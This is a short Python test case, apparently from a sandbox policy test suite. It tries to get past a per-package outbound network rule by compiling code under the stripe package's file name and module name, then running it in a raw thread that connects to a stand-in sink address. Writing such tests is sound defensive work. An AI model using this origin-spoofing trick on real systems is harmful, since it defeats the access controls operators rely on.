# class: only_for
# rule: outbound_connectivity
# success: a thread begins with code that is compiled under the name of the allowed package
# proof: sink
# needs: packages
# policy: only_for.yaml
# says: "asker": "tintbox"
import time

import stripe
from attack import SINK, attempt

SOURCE = """
import socket
def dial(*ignored):
    socket.create_connection(address, 5).close()
    done.append(1)
"""


@attempt
def finaliser():
    done = []
    space = {"address": SINK, "done": done, "__file__": stripe.__file__, "__name__": "stripe"}
    exec(compile(SOURCE, stripe.__file__, "exec"), space)
    import _thread

    _thread.start_new_thread(space["dial"], ())
    for _ in range(60):
        if done:
            break
        time.sleep(0.05)
    return bool(done)
